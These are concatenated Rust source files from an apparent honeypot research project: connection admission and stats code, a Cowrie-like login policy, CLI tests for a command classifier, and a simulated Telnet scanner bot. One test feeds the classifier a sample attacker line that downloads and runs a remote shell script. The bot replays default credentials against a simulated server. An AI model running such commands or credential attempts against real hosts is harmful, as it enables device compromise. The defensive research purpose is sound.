    pub fn http_port(mut self, port: impl Into<Option<u16>>) -> Self {
        self.cfg.http_port = port.into();
        self
    }

    /// Spill store directory.
    pub fn store_dir(mut self, dir: impl Into<PathBuf>) -> Self {
        self.cfg.store_dir = Some(dir.into());
        self
    }

    /// Worker shard count.
    pub fn workers(mut self, n: usize) -> Self {
        self.cfg.workers = n;
        self
    }

    /// HTTP worker count.
    pub fn http_workers(mut self, n: usize) -> Self {
        self.cfg.http_workers = n;
        self
    }

    /// Global concurrent-connection cap.
    pub fn max_connections(mut self, n: usize) -> Self {
        self.cfg.max_connections = n;
        self
    }

    /// Per-IP concurrent-connection limit.
    pub fn per_ip_limit(mut self, n: usize) -> Self {
        self.cfg.per_ip_limit = n;
        self
    }

    /// Idle timeout.
    pub fn idle_timeout(mut self, t: Duration) -> Self {
        self.cfg.idle_timeout = t;
        self
    }

    /// Total-session ceiling.
    pub fn session_timeout(mut self, t: Duration) -> Self {
        self.cfg.session_timeout = t;
        self
    }

    /// Shutdown drain window.
    pub fn drain_timeout(mut self, t: Duration) -> Self {
        self.cfg.drain_timeout = t;
        self
    }

    /// Stats-line cadence (`None` silences the line).
    pub fn stats_interval(mut self, t: impl Into<Option<Duration>>) -> Self {
        self.cfg.stats_interval = t.into();
        self
    }

    /// Sensor id stamped into records.
    pub fn honeypot_id(mut self, id: u16) -> Self {
        self.cfg.honeypot_id = id;
        self
    }

    /// Sensor address stamped into records.
    pub fn honeypot_ip(mut self, ip: netsim::Ipv4Addr) -> Self {
        self.cfg.honeypot_ip = ip;
        self
    }

    /// Collector retry/fault config.
    pub fn collector(mut self, c: CollectorConfig) -> Self {
        self.cfg.collector = c;
        self
    }

    /// Rows per sealed segment.
    pub fn rows_per_segment(mut self, n: usize) -> Self {
        self.cfg.rows_per_segment = n;
        self
    }

    /// WAL fsync policy.
    pub fn fsync(mut self, policy: FsyncPolicy) -> Self {
        self.cfg.fsync = policy;
        self
    }

    /// Fault injection.
    pub fn chaos(mut self, chaos: ChaosConfig) -> Self {
        self.cfg.chaos = chaos;
        self
    }

    /// `/api/sessions/recent` tail depth.
    pub fn recent_tail(mut self, n: usize) -> Self {
        self.cfg.recent_tail = n;
        self
    }

    /// Serving engine (reactor or polled baseline).
    pub fn engine(mut self, engine: Engine) -> Self {
        self.cfg.engine = engine;
        self
    }

    /// Validates and returns the config.
    pub fn build(self) -> Result<ServeConfig, ConfigError> {
        self.cfg.validate()?;
        Ok(self.cfg)
    }
}

/// Live counters, updated lock-free by every thread in the server.
#[derive(Debug, Default)]
pub struct ServeStats {
    /// Connections accepted by the OS (before admission control).
    pub accepted: AtomicU64,
    /// Connections shed because the global cap was reached.
    pub shed_capacity: AtomicU64,
    /// Connections shed because the source IP hit its limit.
    pub shed_per_ip: AtomicU64,
    /// Connections currently being served (gauge).
    pub active: AtomicUsize,
    /// Sessions completed and handed to the collector.
    pub completed: AtomicU64,
    /// Sessions ended by idle/total timeout (subset of `completed`).
    pub timed_out: AtomicU64,
    /// Connections that died on a protocol error (still recorded).
    pub wire_errors: AtomicU64,
    /// Bytes read from clients.
    pub bytes_in: AtomicU64,
    /// Bytes written to clients.
    pub bytes_out: AtomicU64,
    /// Unexpected `accept(2)` errors (fd exhaustion and friends).
    pub accept_errors: AtomicU64,
    /// Connection pumps that panicked and were contained per-connection.
    pub panics_caught: AtomicU64,
    /// Shard threads that died and were respawned by the supervisor.
    pub shards_respawned: AtomicU64,
}

/// A point-in-time copy of [`ServeStats`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct StatsSnapshot {
    /// Connections accepted by the OS.
    pub accepted: u64,
    /// Shed on the global cap.
    pub shed_capacity: u64,
    /// Shed on the per-IP limit.
    pub shed_per_ip: u64,
    /// Currently active connections.
    pub active: usize,
    /// Sessions completed.
    pub completed: u64,
    /// Sessions ended by timeout.
    pub timed_out: u64,
    /// Protocol-error connections.
    pub wire_errors: u64,
    /// Bytes in.
    pub bytes_in: u64,
    /// Bytes out.
    pub bytes_out: u64,
    /// Unexpected accept errors.
    pub accept_errors: u64,
    /// Contained connection panics.
    pub panics_caught: u64,
    /// Shard respawns.
    pub shards_respawned: u64,
}

impl ServeStats {
    /// Copies every counter.
    pub fn snapshot(&self) -> StatsSnapshot {
        StatsSnapshot {
            accepted: self.accepted.load(Ordering::Relaxed),
            shed_capacity: self.shed_capacity.load(Ordering::Relaxed),
            shed_per_ip: self.shed_per_ip.load(Ordering::Relaxed),
            active: self.active.load(Ordering::Relaxed),
            completed: self.completed.load(Ordering::Relaxed),
            timed_out: self.timed_out.load(Ordering::Relaxed),
            wire_errors: self.wire_errors.load(Ordering::Relaxed),
            bytes_in: self.bytes_in.load(Ordering::Relaxed),
            bytes_out: self.bytes_out.load(Ordering::Relaxed),
            accept_errors: self.accept_errors.load(Ordering::Relaxed),
            panics_caught: self.panics_caught.load(Ordering::Relaxed),
            shards_respawned: self.shards_respawned.load(Ordering::Relaxed),
        }
    }
}

impl StatsSnapshot {
    /// One-line rendering for the periodic stats log.
    pub fn render(&self) -> String {
        format!(
            "accepted={} active={} completed={} timed_out={} shed={}+{} wire_errors={} in={}B out={}B accept_errors={} panics={} respawns={}",
            self.accepted,
            self.active,
            self.completed,
            self.timed_out,
            self.shed_capacity,
            self.shed_per_ip,
            self.wire_errors,
            self.bytes_in,
            self.bytes_out,
            self.accept_errors,
            self.panics_caught,
            self.shards_respawned,
        )
    }

    /// The counters as a v1 object body. This is the single emitter for
    /// serving counters everywhere they appear — `/api/stats`, the final
    /// [`ServeReport`] document, and the goldens — so the wire shape
    /// cannot fork.
    pub fn api_json(&self) -> hutil::Json {
        use hutil::Json;
        Json::obj([
            ("accepted", Json::u64(self.accepted)),
            ("active", Json::u64(self.active as u64)),
            ("completed", Json::u64(self.completed)),
            ("timed_out", Json::u64(self.timed_out)),
            ("shed_capacity", Json::u64(self.shed_capacity)),
            ("shed_per_ip", Json::u64(self.shed_per_ip)),
            ("wire_errors", Json::u64(self.wire_errors)),
            ("bytes_in", Json::u64(self.bytes_in)),
            ("bytes_out", Json::u64(self.bytes_out)),
            ("accept_errors", Json::u64(self.accept_errors)),
            ("panics_caught", Json::u64(self.panics_caught)),
            ("shards_respawned", Json::u64(self.shards_respawned)),
        ])
    }
}

/// Admission decision for one accepted socket.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Admission {
    /// Connection admitted; a slot and a per-IP token are held.
    Admitted,
    /// Global cap reached.
    OverCapacity,
    /// This IP already holds `per_ip_limit` connections.
    OverPerIpLimit,
}

/// Concurrent-connection accounting shared by accept threads and shards.
#[derive(Debug)]
pub struct Gate {
    max_connections: usize,
    per_ip_limit: usize,
    active: AtomicUsize,
    per_ip: parking_lot::Mutex<std::collections::HashMap<u32, usize>>,
}

impl Gate {
    /// A gate enforcing the given limits.
    pub fn new(max_connections: usize, per_ip_limit: usize) -> Self {
        Self {
            max_connections,
            per_ip_limit,
            active: AtomicUsize::new(0),
            per_ip: parking_lot::Mutex::new(std::collections::HashMap::new()),
        }
    }

    /// Tries to admit a connection from `ip`; on success the caller must
    /// eventually call [`Gate::release`].
    pub fn try_admit(&self, ip: netsim::Ipv4Addr) -> Admission {
        let mut per_ip = self.per_ip.lock();
        if self.active.load(Ordering::Relaxed) >= self.max_connections {
            return Admission::OverCapacity;
        }
        let slot = per_ip.entry(ip.0).or_insert(0);
        if *slot >= self.per_ip_limit {
            return Admission::OverPerIpLimit;
        }
        *slot += 1;
        self.active.fetch_add(1, Ordering::Relaxed);
        Admission::Admitted
    }

    /// Returns the slot taken by [`Gate::try_admit`].
    pub fn release(&self, ip: netsim::Ipv4Addr) {
        let mut per_ip = self.per_ip.lock();
        if let Some(slot) = per_ip.get_mut(&ip.0) {
            *slot = slot.saturating_sub(1);
            if *slot == 0 {
                per_ip.remove(&ip.0);
            }
        }
        self.active.fetch_sub(1, Ordering::Relaxed);
    }

    /// Connections currently admitted.
    pub fn active(&self) -> usize {
        self.active.load(Ordering::Relaxed)
    }

    /// How many distinct IPs currently hold at least one slot. The
    /// per-IP table must not grow with *historical* clients — an entry
    /// whose count hits zero is removed — or eight years of honeypot
    /// uptime leaks one map entry per scanner on the internet.
    pub fn tracked_ips(&self) -> usize {
        self.per_ip.lock().len()
    }

    /// RAII form of [`Gate::try_admit`]: on success the returned permit
    /// releases the slot (and the `active` stats gauge) when dropped —
    /// on *any* path, including a panicking connection pump or a dying
    /// shard thread, so crash containment can never leak gate slots.
    pub fn admit(
        self: &Arc<Self>,
        ip: netsim::Ipv4Addr,
        stats: &Arc<ServeStats>,
    ) -> Result<GatePermit, Admission> {
        match self.try_admit(ip) {
            Admission::Admitted => {
                stats.active.fetch_add(1, Ordering::Relaxed);
                Ok(GatePermit {
                    gate: Arc::clone(self),
                    stats: Arc::clone(stats),
                    ip,
                })
            }
            other => Err(other),
        }
    }
}

/// A held admission slot; dropping it releases the slot exactly once.
#[derive(Debug)]
pub struct GatePermit {
    gate: Arc<Gate>,
    stats: Arc<ServeStats>,
    ip: netsim::Ipv4Addr,
}

impl GatePermit {
    /// The (folded) client IP the slot was granted to.
    pub fn ip(&self) -> netsim::Ipv4Addr {
        self.ip
    }
}

impl Drop for GatePermit {
    fn drop(&mut self) {
        self.gate.release(self.ip);
        self.stats.active.fetch_sub(1, Ordering::Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gate_enforces_global_cap() {
        let g = Gate::new(2, 10);
        let ip = netsim::Ipv4Addr(1);
        assert_eq!(g.try_admit(ip), Admission::Admitted);
        assert_eq!(g.try_admit(ip), Admission::Admitted);
        assert_eq!(g.try_admit(ip), Admission::OverCapacity);
        g.release(ip);
        assert_eq!(g.try_admit(ip), Admission::Admitted);
    }

    #[test]
    fn gate_enforces_per_ip_limit() {
        let g = Gate::new(10, 1);
        let a = netsim::Ipv4Addr(1);
        let b = netsim::Ipv4Addr(2);
        assert_eq!(g.try_admit(a), Admission::Admitted);
        assert_eq!(g.try_admit(a), Admission::OverPerIpLimit);
        assert_eq!(g.try_admit(b), Admission::Admitted);
        g.release(a);
        assert_eq!(g.try_admit(a), Admission::Admitted);
        assert_eq!(g.active(), 2);
    }

    #[test]
    fn gate_per_ip_slot_churn_never_leaks_or_wedges() {
        // Rapid connect/disconnect from one IP — the botnet pattern —
        // must neither leak per-IP table entries nor let the count
        // drift (a drift in either direction eventually wedges the IP
        // out permanently or disables its limit).
        let g = Arc::new(Gate::new(64, 4));
        let stats = Arc::new(ServeStats::default());
        let ip = netsim::Ipv4Addr(0x7F00_0001);
        for _ in 0..1_000 {
            let a = g.admit(ip, &stats).expect("slot 1");
            let b = g.admit(ip, &stats).expect("slot 2");
            drop(a);
            let c = g.admit(ip, &stats).expect("slot 2 again");
            drop(c);
            drop(b);
        }
        assert_eq!(g.active(), 0);
        assert_eq!(g.tracked_ips(), 0, "drained IP must leave the table");
        assert_eq!(stats.active.load(Ordering::Relaxed), 0);

        // Same property under cross-thread churn: 8 threads hammering
        // connect/disconnect on two IPs against the per-IP limit.
        let mut handles = Vec::new();
        for t in 0..8u32 {
            let g = Arc::clone(&g);
            let stats = Arc::clone(&stats);
            handles.push(std::thread::spawn(move || {
                let ip = netsim::Ipv4Addr(0x0A00_0000 | (t % 2));
                let mut admitted = 0u32;
                while admitted < 500 {
                    match g.admit(ip, &stats) {
                        Ok(permit) => {
                            admitted += 1;
                            drop(permit);
                        }
                        Err(Admission::OverPerIpLimit) => std::thread::yield_now(),
                        Err(other) => panic!("unexpected admission failure: {other:?}"),
                    }
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(g.active(), 0);
        assert_eq!(g.tracked_ips(), 0, "churned IPs must leave the table");
        assert_eq!(stats.active.load(Ordering::Relaxed), 0);
    }

    #[test]
    fn gate_permit_releases_on_drop_even_across_a_panic() {
        let g = Arc::new(Gate::new(2, 2));
        let stats = Arc::new(ServeStats::default());
        let ip = netsim::Ipv4Addr(7);
        let permit = g.admit(ip, &stats).expect("admitted");
        assert_eq!(g.active(), 1);
        assert_eq!(stats.active.load(Ordering::Relaxed), 1);
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(move || {
            let _held = permit;
            panic!("boom");
        }));
        assert!(result.is_err());
        assert_eq!(g.active(), 0, "unwinding released the slot");
        assert_eq!(stats.active.load(Ordering::Relaxed), 0);
        // The per-IP slot is free again too.
        assert!(g.admit(ip, &stats).is_ok());
    }

    #[test]
    fn builder_accepts_a_valid_config() {
        let cfg = ServeConfig::builder()
            .ssh_port(2222)
            .telnet_port(2323)
            .http_port(8080)
            .workers(4)
            .recent_tail(32)
            .drain_timeout(Duration::from_secs(5))
            .session_timeout(Duration::from_secs(60))
            .build()
            .expect("valid config");
        assert_eq!(cfg.ssh_port, Some(2222));
        assert_eq!(cfg.http_port, Some(8080));
        assert_eq!(cfg.recent_tail, 32);
    }

    #[test]
    fn builder_rejects_invalid_configs() {
        assert_eq!(
            ServeConfig::builder().ssh_port(None).build().unwrap_err(),
            ConfigError::NoListeners
        );
        assert_eq!(
            ServeConfig::builder()
                .drain_timeout(Duration::from_secs(700))
                .session_timeout(Duration::from_secs(600))
                .build()
                .unwrap_err(),
            ConfigError::DrainExceedsSessionTimeout {
                drain: Duration::from_secs(700),
                session: Duration::from_secs(600),
            }
        );
        assert_eq!(
            ServeConfig::builder()
                .ssh_port(2222)
                .http_port(2222)
                .build()
                .unwrap_err(),
            ConfigError::DuplicatePort { port: 2222 }
        );
        assert_eq!(
            ServeConfig::builder()
                .ssh_port(2222)
                .workers(0)
                .build()
                .unwrap_err(),
            ConfigError::ZeroWorkers { plane: "serve" }
        );
        // Ephemeral ports never collide.
        assert!(ServeConfig::builder()
            .ssh_port(0)
            .telnet_port(0)
            .http_port(0)
            .build()
            .is_ok());
    }

    #[test]
    fn plain_struct_construction_still_compiles_and_validates() {
        let cfg = ServeConfig {
            ssh_port: Some(0),
            http_port: Some(0),
            ..ServeConfig::default()
        };
        assert!(cfg.validate().is_ok());
    }

    #[test]
    fn stats_snapshot_api_json_carries_every_counter() {
        let s = ServeStats::default();
        s.accepted.store(9, Ordering::Relaxed);
        s.shards_respawned.store(2, Ordering::Relaxed);
        let doc = s.snapshot().api_json();
        assert_eq!(doc.get("accepted").and_then(hutil::Json::as_i64), Some(9));
        assert_eq!(
            doc.get("shards_respawned").and_then(hutil::Json::as_i64),
            Some(2)
        );
        for key in [
            "active",
            "completed",
            "timed_out",
            "shed_capacity",
            "shed_per_ip",
            "wire_errors",
            "bytes_in",
            "bytes_out",
            "accept_errors",
            "panics_caught",
        ] {
            assert!(doc.get(key).is_some(), "missing {key}");
        }
    }

    #[test]
    fn stats_snapshot_renders_counters() {
        let s = ServeStats::default();
        s.accepted.store(7, Ordering::Relaxed);
        s.completed.store(5, Ordering::Relaxed);
        let snap = s.snapshot();
        assert_eq!(snap.accepted, 7);
        assert!(snap.render().contains("accepted=7"));
        assert!(snap.render().contains("completed=5"));
    }
}
