//! Authentication policy (paper §3.2 and §8).
//!
//! The honeynet accepts password authentication for the username `root`
//! with *any* password except the literal `root`. Public-key auth is not
//! supported. On top of that, the deployed Cowrie version ships the
//! well-known default account `phil` (its predecessor was `richard`, which
//! the deployed version no longer accepts) — attackers use exactly this to
//! fingerprint Cowrie (Fig. 11).

/// The honeypot's credential policy.
#[derive(Debug, Clone)]
pub struct AuthPolicy {
    /// Whether the deployment is a post-2020 Cowrie (accepts `phil`)
    /// rather than a pre-2020 one (accepts `richard`).
    pub accepts_phil: bool,
}

impl Default for AuthPolicy {
    fn default() -> Self {
        // The paper's honeynet runs a later Cowrie: `phil` succeeds,
        // `richard` fails (§8).
        Self { accepts_phil: true }
    }
}

impl AuthPolicy {
    /// Decides one password-auth attempt.
    pub fn accept(&self, username: &str, password: &str) -> bool {
        match username {
            "root" => password != "root",
            "phil" => self.accepts_phil,
            "richard" => !self.accepts_phil,
            _ => false,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn root_any_password_except_root() {
        let p = AuthPolicy::default();
        assert!(p.accept("root", "admin"));
        assert!(p.accept("root", "1234"));
        assert!(p.accept("root", "3245gs5662d34"));
        assert!(p.accept("root", ""));
        assert!(!p.accept("root", "root"));
    }

    #[test]
    fn cowrie_default_accounts_depend_on_version() {
        let new = AuthPolicy::default();
        assert!(new.accepts_phil);
        assert!(new.accept("phil", "anything"));
        assert!(!new.accept("richard", "anything"));

        let old = AuthPolicy {
            accepts_phil: false,
        };
        assert!(!old.accept("phil", "x"));
        assert!(old.accept("richard", "x"));
    }

    #[test]
    fn other_usernames_always_fail() {
        let p = AuthPolicy::default();
        for user in ["admin", "ubuntu", "pi", "user", "test", ""] {
            assert!(!p.accept(user, "password"), "{user} must be rejected");
        }
    }
}
