//! End-to-end tests of the `honeylab` CLI binary.

use std::io::Write;
use std::process::{Command, Stdio};

fn honeylab() -> Command {
    Command::new(env!("CARGO_BIN_EXE_honeylab"))
}

#[test]
fn usage_on_no_args() {
    let out = honeylab().output().expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("usage:"), "{err}");
}

#[test]
fn table1_prints_all_rules() {
    let out = honeylab().arg("table1").output().expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    for label in [
        "mdrfckr",
        "curl_maxred",
        "gen_curl_echo_ftp_wget",
        "unknown",
    ] {
        assert!(text.contains(label), "missing {label}");
    }
    // 58 rules + header + fallback line.
    assert!(text.lines().count() >= 60);
}

#[test]
fn classify_reads_stdin() {
    let mut child = honeylab()
        .arg("classify")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("binary runs");
    child
        .stdin
        .as_mut()
        .unwrap()
        .write_all(b"cd /tmp; wget http://1.2.3.4/x.sh; sh x.sh\nuname -a\nzzz unknown zzz\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].starts_with("gen_wget"), "{}", lines[0]);
    assert!(lines[1].starts_with("uname_a"), "{}", lines[1]);
    assert!(lines[2].starts_with("unknown"), "{}", lines[2]);
}

#[test]
fn generate_then_analyze_roundtrip() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("hlab-test.json");
    let out = honeylab()
        .args([
            "generate",
            "--scale",
            "60000",
            "--seed",
            "5",
            "--out",
            log.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(log.exists());

    let out = honeylab()
        .arg("analyze")
        .arg(&log)
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Dataset statistics"));
    assert!(text.contains("Table 1 coverage"));
    assert!(text.contains("top command categories"));
    assert!(
        text.contains("echo_OK"),
        "dominant scout should appear:\n{text}"
    );
    std::fs::remove_file(&log).ok();
}

#[test]
fn degraded_generate_then_lossy_analyze() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("hlab-degraded.json");
    let out = honeylab()
        .args([
            "generate",
            "--scale",
            "60000",
            "--seed",
            "9",
            "--downtime",
            "0.12",
            "--flush-fail",
            "0.01",
            "--corrupt",
            "0.01",
            "--out",
            log.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("degraded run:"),
        "accounting line printed:\n{err}"
    );
    assert!(err.contains("connection failures"), "{err}");
    assert!(err.contains("corrupted"), "{err}");

    // The analyzer recovers the parseable sessions instead of aborting.
    let out = honeylab()
        .arg("analyze")
        .arg(&log)
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("recovered"), "lossy import reported:\n{err}");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Dataset statistics"));
    std::fs::remove_file(&log).ok();
}

#[test]
fn sessiondb_generate_then_analyze_roundtrip() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let store = dir.join("hlab-test.hsdb");
    std::fs::remove_dir_all(&store).ok();
    let out = honeylab()
        .args([
            "generate",
            "--scale",
            "60000",
            "--seed",
            "5",
            "--out-format",
            "sessiondb",
            "--out",
            store.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("wrote sessiondb store"), "{err}");
    assert!(store.join("MANIFEST").exists());

    // analyze auto-detects the store and streams it.
    let out = honeylab()
        .arg("analyze")
        .arg(&store)
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("sessiondb store:"),
        "auto-detection reported:\n{err}"
    );
    assert!(
        err.contains("validated"),
        "up-front CRC pass reported:\n{err}"
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("Dataset statistics"));
    assert!(text.contains("Table 1 coverage"));
    std::fs::remove_dir_all(&store).ok();
}

#[test]
fn analyze_rejects_corrupt_store() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let store = dir.join("hlab-corrupt.hsdb");
    std::fs::remove_dir_all(&store).ok();
    let out = honeylab()
        .args([
            "generate",
            "--scale",
            "60000",
            "--out-format",
            "sessiondb",
            "--out",
            store.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Flip one byte in the middle of the first segment: the validation
    // pass must fail with a structured error, not a panic.
    let seg = store.join("seg-000000.hsdb");
    let mut bytes = std::fs::read(&seg).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0x10;
    std::fs::write(&seg, &bytes).unwrap();

    let out = honeylab()
        .arg("analyze")
        .arg(&store)
        .output()
        .expect("binary runs");
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("error scanning"), "{err}");
    std::fs::remove_dir_all(&store).ok();
}

#[test]
fn generate_rejects_unknown_format() {
    let out = honeylab()
        .args(["generate", "--scale", "60000", "--out-format", "parquet"])
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("unknown --out-format"), "{err}");
}

#[test]
fn analyze_rejects_garbage() {
    let dir = std::env::temp_dir().join("honeylab-cli-test");
    std::fs::create_dir_all(&dir).unwrap();
    let bad = dir.join("bad.json");
    std::fs::write(&bad, "this is not json\n").unwrap();
    let out = honeylab()
        .arg("analyze")
        .arg(&bad)
        .output()
        .expect("binary runs");
    assert_eq!(out.status.code(), Some(1));
    std::fs::remove_file(&bad).ok();
}
