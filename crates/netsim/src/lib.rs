//! `netsim` — the discrete-event network substrate under the honeynet.
//!
//! The paper's honeynet observes real TCP/SSH traffic; our reproduction
//! replaces the Internet with a deterministic discrete-event simulation in
//! the spirit of event-driven network stacks (cf. smoltcp): no ambient
//! clock, no threads in the hot path, every state transition driven by an
//! explicit event at an explicit simulated instant.
//!
//! * [`event`] — a monotonic event scheduler (binary heap, FIFO among
//!   same-instant events).
//! * [`ip`] — IPv4 prefixes, deterministic address pools and /24
//!   deaggregation (the unit of AS-size measurement in Fig. 8b).
//! * [`tcp`] — the client/server connection state machine that defines the
//!   paper's session taxonomy boundaries (handshake ⇒ *scanning*, …) and the
//!   3-minute idle timeout that ends honeypot sessions.
//! * [`latency`] — a seeded per-path latency model used to time handshake
//!   and command round-trips.
//! * [`faults`] — seeded fault-injection primitives: outage renewal
//!   processes, Bernoulli failure injection and exponential backoff, the
//!   substrate of the pipeline's degraded-mode simulation.

pub mod event;
pub mod faults;
pub mod ip;
pub mod latency;
pub mod tcp;

pub use event::Scheduler;
pub use ip::{Ipv4Addr, Prefix};
pub use tcp::{CloseReason, Connection, TcpState};
