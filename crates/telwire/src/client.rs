//! Scripted Telnet bot client.
//!
//! Mirrors the simplest real IoT scanners: refuse every option the server
//! offers (`DONT`/`WONT` everything), wait for the `login:`/`Password:`
//! prompts, feed credentials from a list, then fire command lines at the
//! shell prompt and quit.

use crate::codec::{self, Event, TelnetCodec, DO, DONT, WILL, WONT};
use crate::TelnetError;

/// What the bot should attempt.
#[derive(Debug, Clone)]
pub struct TelnetScript {
    /// Credential pairs to try in order.
    pub logins: Vec<(String, String)>,
    /// Commands to run once a login succeeds.
    pub commands: Vec<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Phase {
    WaitLoginPrompt,
    WaitPasswordPrompt,
    WaitShellOrRetry,
    Shell,
    WaitPrompt,
    Done,
}

/// The client endpoint.
pub struct TelnetClient {
    script: TelnetScript,
    codec: TelnetCodec,
    outbuf: Vec<u8>,
    text: String,
    phase: Phase,
    next_login: usize,
    next_command: usize,
}

impl TelnetClient {
    /// Creates a client that will play `script`.
    pub fn new(script: TelnetScript) -> Self {
        Self {
            script,
            codec: TelnetCodec::new(),
            outbuf: Vec::new(),
            text: String::new(),
            phase: Phase::WaitLoginPrompt,
            next_login: 0,
            next_command: 0,
        }
    }

    /// Whether the script has run to completion (or given up).
    pub fn is_done(&self) -> bool {
        self.phase == Phase::Done
    }

    /// Drains bytes queued for the server.
    pub fn take_output(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.outbuf)
    }

    fn send_line(&mut self, line: &str) {
        self.outbuf
            .extend_from_slice(&codec::escape_data(line.as_bytes()));
        self.outbuf.extend_from_slice(b"\r\n");
    }

    /// Feeds server bytes, reacting to prompts.
    pub fn input(&mut self, data: &[u8]) -> Result<(), TelnetError> {
        self.codec.input(data);
        for ev in self.codec.drain()? {
            match ev {
                Event::Negotiate { verb, option } => {
                    // Refuse everything, like the simplest scanners.
                    let reply = match verb {
                        WILL => Some(DONT),
                        DO => Some(WONT),
                        _ => None,
                    };
                    if let Some(r) = reply {
                        self.outbuf.extend_from_slice(&codec::negotiate(r, option));
                    }
                }
                Event::Data(bytes) => {
                    self.text.push_str(&String::from_utf8_lossy(&bytes));
                    self.react();
                }
                Event::Subnegotiation { .. } | Event::Command(_) => {}
            }
        }
        Ok(())
    }

    fn react(&mut self) {
        loop {
            match self.phase {
                Phase::WaitLoginPrompt => {
                    if !self.consume_marker("login: ") {
                        return;
                    }
                    match self.script.logins.get(self.next_login) {
                        Some((user, _)) => {
                            let user = user.clone();
                            self.send_line(&user);
                            self.phase = Phase::WaitPasswordPrompt;
                        }
                        None => {
                            self.phase = Phase::Done;
                            return;
                        }
                    }
                }
                Phase::WaitPasswordPrompt => {
                    if !self.consume_marker("Password: ") {
                        return;
                    }
                    let (_, pass) = self.script.logins[self.next_login].clone();
                    self.next_login += 1;
                    self.send_line(&pass);
                    self.phase = Phase::WaitShellOrRetry;
                }
                Phase::WaitShellOrRetry => {
                    // Success shows a `#` prompt; failure re-prompts login.
                    if self.consume_marker(":~# ") {
                        self.phase = Phase::Shell;
                    } else if self.text.contains("login: ") {
                        self.phase = Phase::WaitLoginPrompt;
                    } else if self.text.contains("Login incorrect")
                        && self.next_login >= self.script.logins.len()
                    {
                        self.phase = Phase::Done;
                        return;
                    } else {
                        return;
                    }
                }
                Phase::Shell => {
                    match self.script.commands.get(self.next_command) {
                        Some(cmd) => {
                            let cmd = cmd.clone();
                            self.next_command += 1;
                            self.send_line(&cmd);
                            // Lock-step: wait for the next shell prompt.
                            self.phase = Phase::WaitPrompt;
                        }
                        None => {
                            self.send_line("exit");
                            self.phase = Phase::Done;
                            return;
                        }
                    }
                }
                Phase::WaitPrompt => {
                    if !self.consume_marker(":~# ") {
                        return;
                    }
                    self.phase = Phase::Shell;
                }
                Phase::Done => return,
            }
        }
    }

    fn consume_marker(&mut self, marker: &str) -> bool {
        if let Some(pos) = self.text.find(marker) {
            self.text.drain(..pos + marker.len());
            true
        } else {
            false
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn refuses_all_options() {
        let mut c = TelnetClient::new(TelnetScript {
            logins: vec![],
            commands: vec![],
        });
        c.input(&[codec::IAC, WILL, 1, codec::IAC, DO, 31]).unwrap();
        let out = c.take_output();
        assert!(out.windows(3).any(|w| w == codec::negotiate(DONT, 1)));
        assert!(out.windows(3).any(|w| w == codec::negotiate(WONT, 31)));
    }

    #[test]
    fn answers_prompts_in_order() {
        let mut c = TelnetClient::new(TelnetScript {
            logins: vec![("root".into(), "dreambox".into())],
            commands: vec!["id".into()],
        });
        c.input(b"svr04 login: ").unwrap();
        assert_eq!(String::from_utf8_lossy(&c.take_output()), "root\r\n");
        c.input(b"Password: ").unwrap();
        assert_eq!(String::from_utf8_lossy(&c.take_output()), "dreambox\r\n");
        c.input(b"\r\nBusyBox\r\nsvr04:~# ").unwrap();
        assert_eq!(String::from_utf8_lossy(&c.take_output()), "id\r\n");
        c.input(b"uid=0\r\nsvr04:~# ").unwrap();
